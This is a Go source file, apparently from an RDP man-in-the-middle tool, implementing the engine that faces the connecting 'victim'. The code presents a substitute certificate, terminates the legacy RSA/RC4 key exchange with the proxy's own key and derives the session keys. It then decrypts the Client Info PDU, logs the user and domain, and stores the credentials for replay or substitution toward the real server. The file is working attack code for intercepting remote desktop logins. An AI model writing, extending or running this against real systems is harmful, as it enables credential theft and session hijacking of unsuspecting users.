package engine

import (
	"bytes"
	"crypto/tls"

	"github.com/proxysec/rdpmitm/core"
	"github.com/proxysec/rdpmitm/glog"
	"github.com/proxysec/rdpmitm/proto/fastpath"
	"github.com/proxysec/rdpmitm/proto/gcc"
	"github.com/proxysec/rdpmitm/proto/mcs"
	"github.com/proxysec/rdpmitm/proto/mcs/per"
	"github.com/proxysec/rdpmitm/proto/pdu/connPdu"
	"github.com/proxysec/rdpmitm/proto/pdu/licPdu"
	"github.com/proxysec/rdpmitm/proto/pdu/mcsPdu"
	"github.com/proxysec/rdpmitm/proto/sec"
	"github.com/proxysec/rdpmitm/proto/x224"
)

// Identity is the MITM's own proprietary server certificate, generated
// once per listener and presented to every victim in place of the real
// target's certificate, so the legacy key exchange terminates at the
// proxy.
type Identity struct {
	Modulus   []byte // little-endian, per the proprietary certificate format
	PubExp    uint32
	Signature []byte
	priv      interface {
		Decrypt([]byte) []byte
	}
	tlsCert tls.Certificate
}

// ClientEngine drives the victim-facing leg: it speaks the RDP server
// role toward whatever client connects, negotiating down to whatever
// security the victim will accept and terminating the legacy key exchange
// itself.
type ClientEngine struct {
	Transport *core.Stream
	State     ClientState
	Identity  *Identity

	ClientSettings gcc.ClientSettings
	NextUserId     uint16
	Channels       []Channel
	globalId       uint16

	UseTLS             bool
	RequestedProtocols uint32
	EncryptionLevel    uint32
	Keys               *sec.KeySchedule
	ClientRandom       []byte
	ServerRandom       []byte

	// Encrypt and Decrypt are the live per-direction ciphers, seeded the
	// moment the key schedule is derived. They live on the engine, not the
	// coupler, because the victim's very first encrypted PDU (the Client
	// Info) is consumed during the handshake and the RC4 keystream must
	// continue from there into steady state.
	Encrypt *fastpath.Cipher
	Decrypt *fastpath.Cipher

	// ClientInfo is the credential/locale bundle the victim sent in its
	// ClientInfoPDU, kept so the coupler can replay it (or substitute its
	// own) onto the target-facing ServerEngine.
	ClientInfo connPdu.ClientInfoPDU
}

func NewClientEngine(transport *core.Stream, identity *Identity) *ClientEngine {
	return &ClientEngine{
		Transport: transport,
		State:     ClientStateIdle,
		Identity:  identity,
		globalId:  mcs.MCS_CHANNEL_GLOBAL,
	}
}

// Handshake drives the connection sequence to Active as the server role,
// leaving the fully negotiated client settings in e.ClientSettings so the
// coupler can mirror them onto the target-facing ServerEngine.
func (e *ClientEngine) Handshake() {
	e.readConnectionRequest()
	e.sendConnectionConfirm()
	e.readConnectInitial()
	e.sendConnectResponse()
	e.readErectDomain()
	e.readAttachUser()
	e.sendAttachConfirm()
	e.joinChannels()
	if e.EncryptionLevel != gcc.ENCRYPTION_LEVEL_NONE && !e.UseTLS {
		e.readSecurityExchange()
	}
	e.readClientInfo()
	e.sendValidClientLicense()
	e.State = ClientStateActive
	glog.Debugf("client engine active, userId=%d channels=%+v", e.NextUserId, e.Channels)
}

func (e *ClientEngine) readConnectionRequest() {
	e.State = ClientStateAwaitRequest
	data := x224.ReadConnect(e.Transport)
	if len(data) >= 8 {
		neg := &connPdu.Negotiation{}
		neg.Read(bytes.NewReader(data[len(data)-8:]))
		e.RequestedProtocols = neg.Result
		e.UseTLS = neg.Result&connPdu.PROTOCOL_SSL != 0 || neg.Result&connPdu.PROTOCOL_HYBRID != 0
	}
}

func (e *ClientEngine) sendConnectionConfirm() {
	resp := &connPdu.ServerConnectionConfirmPDU{
		ProtocolNeg: connPdu.Negotiation{
			Type:   connPdu.TYPE_RDP_NEG_RSP,
			Result: core.If(e.UseTLS, connPdu.PROTOCOL_SSL, connPdu.PROTOCOL_RDP),
		},
	}
	resp.Write(e.Transport)
	if e.UseTLS {
		cert := e.Identity.tlsCertificate()
		e.Transport.SwitchSSLServer(cert)
	}
	e.State = ClientStateAwaitConnectInitial
}

func (e *ClientEngine) readConnectInitial() {
	pdu := &mcsPdu.ClientMcsConnectInitialPdu{}
	pdu.Read(e.Transport)
	e.ClientSettings = pdu.GccBlob
	e.State = ClientStateAwaitAttach
}

func (e *ClientEngine) sendConnectResponse() {
	server := gcc.ServerSettings{
		Network: gcc.ServerNetworkData{McsChannelId: e.globalId},
	}
	for i := range e.ClientSettings.Network.ChannelDefs {
		server.Network.ChannelIdArray = append(server.Network.ChannelIdArray, e.globalId+1+uint16(i))
	}

	e.EncryptionLevel = gcc.ENCRYPTION_LEVEL_CLIENT_COMPATIBLE
	if !e.UseTLS {
		server.Security = gcc.ServerSecurityData{
			EncryptionMethod: gcc.ENCRYPTION_METHOD_128BIT,
			EncryptionLevel:  e.EncryptionLevel,
			ServerRandom:     core.Random(32),
			ServerCert: &gcc.ServerCertificate{
				Proprietary: &gcc.ProprietaryServerCertificate{
					SignatureAlgorithmId: 1,
					KeyAlgorithmId:       1,
					PublicKeyBlobType:    6,
					PubExp:               e.Identity.PubExp,
					Modulus:              e.Identity.Modulus,
					SignatureBlobType:    8,
					Signature:            e.Identity.Signature,
				},
			},
		}
		e.ServerRandom = server.Security.ServerRandom
	} else {
		server.Security.EncryptionLevel = gcc.ENCRYPTION_LEVEL_NONE
		e.EncryptionLevel = gcc.ENCRYPTION_LEVEL_NONE
	}

	resp := &mcsPdu.ServerMcsConnectResponsePDU{Result: 0, GccBlob: server}
	resp.Write(e.Transport)
}

func (e *ClientEngine) readErectDomain() {
	x224.Read(e.Transport) // ClientErectDomain, contents unused
}

func (e *ClientEngine) readAttachUser() {
	data := x224.Read(e.Transport)
	core.ThrowIf(mcs.ReadMcsPduHeader(bytes.NewReader(data)) != mcs.MCS_PDUTYPE_ATTACH_USER_REQUEST, "expected attach user request")
	e.NextUserId = mcs.MCS_CHANNEL_USERID_BASE
	e.State = ClientStateAwaitJoins
}

func (e *ClientEngine) sendAttachConfirm() {
	confirm := &mcs.ServerAttachUserConfirm{UserId: e.NextUserId}
	mcs.WriteDomainPDU(e.Transport, confirm.Serialize())
}

func (e *ClientEngine) joinChannels() {
	expected := 2 + len(e.ClientSettings.Network.ChannelDefs)
	for i := 0; i < expected; i++ {
		data := x224.Read(e.Transport)
		r := bytes.NewReader(data)
		core.ThrowIf(mcs.ReadMcsPduHeader(r) != mcs.MCS_PDUTYPE_CHANNEL_JOIN_REQUEST, "expected channel join request")
		requestedUserId := per.ReadInteger16(r, mcs.MCS_CHANNEL_USERID_BASE)
		channelId := per.ReadInteger16(r, 0)

		confirm := &mcs.ServerChannelJoinConfirm{Result: 0, Initiator: requestedUserId, Requested: channelId, ChannelId: channelId}
		mcs.WriteDomainPDU(e.Transport, confirm.Serialize())

		for idx, id := range e.serverChannelIds() {
			if id == channelId && idx < len(e.ClientSettings.Network.ChannelDefs) {
				e.Channels = append(e.Channels, Channel{Name: e.ClientSettings.Network.ChannelDefs[idx].Name, Id: id})
			}
		}
	}
	e.State = ClientStateAwaitClientInfo
}

// IOChannelID returns the MCS channel id this engine assigned to the I/O
// channel, the one that carries slow-path ShareControlHeader PDUs and is
// always joined first.
func (e *ClientEngine) IOChannelID() uint16 {
	return e.globalId
}

func (e *ClientEngine) serverChannelIds() []uint16 {
	ids := make([]uint16, len(e.ClientSettings.Network.ChannelDefs))
	for i := range ids {
		ids[i] = e.globalId + 1 + uint16(i)
	}
	return ids
}

func (e *ClientEngine) readSecurityExchange() {
	data := x224.Read(e.Transport)
	r := bytes.NewReader(data)
	core.ThrowIf(mcs.ReadMcsPduHeader(r) != mcs.MCS_PDUTYPE_SEND_DATA_REQUEST, "expected send data request")

	body := sendDataBody(r)
	sh := sec.TsSecurityHeader{}
	sh.Read(body)
	core.ThrowIf(sh.Flags&sec.SEC_EXCHANGE_PKT == 0, "expected security exchange pdu")

	pdu := &sec.ClientSecurityExchangePDU{}
	pdu.Read(body)

	e.ClientRandom = e.Identity.priv.Decrypt(pdu.EncryptedClientRandom)
	e.Keys = sec.DeriveKeySchedule(e.ClientRandom, e.ServerRandom, 16)

	// Server role: what the victim encrypts with InitialEncrypt, this
	// engine decrypts, and vice versa.
	e.Encrypt = &fastpath.Cipher{Stream: sec.NewStream(e.Keys.InitialDecrypt), MacKey: e.Keys.MacKey128}
	e.Decrypt = &fastpath.Cipher{Stream: sec.NewStream(e.Keys.InitialEncrypt), MacKey: e.Keys.MacKey128}
	e.State = ClientStateAwaitClientInfo
}

// sendDataBody skips the PER-encoded userId/channelId/priority/length
// fields of an MCS Send Data Request already positioned after the PDU
// header, returning a reader over the payload.
func sendDataBody(r *bytes.Reader) *bytes.Reader {
	per.ReadInteger16(r, mcs.MCS_CHANNEL_USERID_BASE)
	per.ReadInteger16(r, 0) // channelId
	core.ReadUInt8(r)       // priority/segmentation
	n := per.ReadLength(r)
	return bytes.NewReader(core.ReadBytes(r, n))
}

func (e *ClientEngine) readClientInfo() {
	data := x224.Read(e.Transport)
	r := bytes.NewReader(data)
	core.ThrowIf(mcs.ReadMcsPduHeader(r) != mcs.MCS_PDUTYPE_SEND_DATA_REQUEST, "expected send data request")
	body := sendDataBody(r)

	sh := sec.TsSecurityHeader{}
	sh.Read(body)
	core.ThrowIf(sh.Flags&sec.SEC_INFO_PKT == 0, "expected client info pdu")

	plain := core.ReadBytes(body, body.Len())
	if sh.Flags&sec.SEC_ENCRYPT != 0 {
		core.ThrowIf(e.Decrypt == nil, "encrypted client info with no security exchange")
		var mac [8]byte
		copy(mac[:], plain[:8])
		plain = e.Decrypt.Stream.Apply(plain[8:])
		if !sec.VerifySign(e.Decrypt.MacKey, plain, mac) {
			core.ThrowRDPErrorf(core.ErrBadSignature, "client info signature mismatch")
		}
	}

	info := &connPdu.ClientInfoPDU{}
	info.Read(bytes.NewReader(plain))
	e.ClientInfo = *info
	glog.Debugf("client info: user=%s domain=%s", info.UserName, info.Domain)
	e.State = ClientStateLicenseSent
}

// sendValidClientLicense short-circuits licensing toward the victim with
// the standard "valid client" error alert, the shortcut that makes every
// real RDP client continue straight to the capability exchange.
func (e *ClientEngine) sendValidClientLicense() {
	lic := licPdu.NewValidClientLicense()
	buf := new(bytes.Buffer)

	sh := sec.TsSecurityHeader{Flags: sec.SEC_LICENSE_PKT}
	sh.Write(buf)
	lic.Write(buf)

	sdi := mcs.NewSendDataIndication(e.NextUserId, e.globalId)
	x224.Write(e.Transport, sdi.Serialize(buf.Bytes()))
	e.State = ClientStateLicenseSent
}
